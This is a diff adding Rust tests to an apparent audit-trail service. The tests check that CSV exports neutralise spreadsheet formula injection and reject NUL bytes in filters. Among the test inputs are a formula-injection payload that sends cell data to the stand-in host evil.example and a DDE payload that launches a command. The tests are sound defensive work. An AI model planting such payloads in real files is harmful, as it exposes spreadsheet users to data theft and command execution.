@@ -1669,6 +1669,117 @@ async fn ig_staff_export_the_trace_as_ndjson_and_csv() {
     assert_eq!(exports.len(), 3, "{exports:#?}");
 }
 
+/// The cells of one CSV record (RFC 4180 quoting), for a record on one line.
+fn csv_cells(row: &str) -> Vec<String> {
+    let mut cells = vec![String::new()];
+    let (mut quoted, mut chars) = (false, row.chars().peekable());
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                chars.next();
+                cells.last_mut().expect("cell").push('"');
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => cells.push(String::new()),
+            (c, _) => cells.last_mut().expect("cell").push(c),
+        }
+    }
+    cells
+}
+
+#[tokio::test]
+async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
+    let app = spawn_app().await;
+    let subjects = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        "\tstarts with a tab",
+        "plain-subject",
+    ];
+    for subject in subjects {
+        let mut claims = app.claims_for("senco");
+        claims["sub"] = json!(subject);
+        let token = app.hs256(&claims);
+        let read = app
+            .graphql_as(
+                Some(&token),
+                Some("DIRECT_SUPPORT"),
+                READ,
+                json!({ "id": AMIRA }),
+            )
+            .await;
+        assert!(
+            read.body["data"]["child"].is_object(),
+            "{subject}: {read:?}"
+        );
+    }
+    let (status, _, body) = export(
+        &app,
+        Some(&app.token_for("ig-auditor")),
+        &format!("?format=csv&childId={AMIRA}&action=READ"),
+    )
+    .await;
+    assert_eq!(status, 200, "{body}");
+    let cells: Vec<String> = body
+        .lines()
+        .skip(1)
+        .map(|row| csv_cells(row)[4].clone())
+        .collect();
+    assert_eq!(cells.len(), subjects.len(), "{body}");
+    for (cell, subject) in cells.iter().zip(subjects) {
+        if subject == "plain-subject" {
+            // Positive control: an ordinary value is left as it is.
+            assert_eq!(cell, subject);
+        } else {
+            assert_eq!(*cell, format!("'{subject}"), "{body}");
+        }
+    }
+    assert!(
+        body.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\""),
+        "{body}"
+    );
+}
+
+#[tokio::test]
+async fn a_nul_in_a_trace_filter_is_bad_input() {
+    let app = spawn_app().await;
+    three_reads(&app).await;
+    let ig_token = app.token_for("ig-auditor");
+    for (query, parameter) in [
+        ("?actorSubject=test-senco%00x", "actorSubject"),
+        ("?format=csv&actorSubject=%00", "actorSubject"),
+        ("?childId=%00", "childId"),
+        ("?from=2026-01-01T00:00:00Z%00", "from"),
+    ] {
+        let (status, _, body) = export(&app, Some(&ig_token), query).await;
+        assert_eq!(status, 400, "{query}: {body}");
+        let body: Value = serde_json::from_str(&body).expect("JSON error");
+        assert_eq!(
+            body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
+            "{query}: {body}"
+        );
+        let message = body["errors"][0]["message"].as_str().unwrap_or_default();
+        assert!(message.contains(parameter), "{query}: {body}");
+    }
+    let answer = ig(
+        &app,
+        &trace_query(),
+        json!({ "filter": { "actorSubject": "test-senco\u{0}x" } }),
+    )
+    .await;
+    assert_eq!(answer.codes(), vec!["BAD_USER_INPUT"], "{answer:?}");
+    assert!(answer.message().contains("actorSubject"), "{answer:?}");
+    assert!(answer.body["data"].is_null(), "{answer:?}");
+    // Positive control: the same filter without the NUL works.
+    let senco = trace(&app, json!({ "actorSubject": "test-senco" })).await;
+    assert_eq!(senco.len(), 2, "{senco:#?}");
+    let (status, _, body) = export(&app, Some(&ig_token), "?actorSubject=test-senco").await;
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(body.lines().count(), 2, "{body}");
+}
+
 // ---------------------------------------------------------------------------
 // 9. Families see who looked.
 // ---------------------------------------------------------------------------
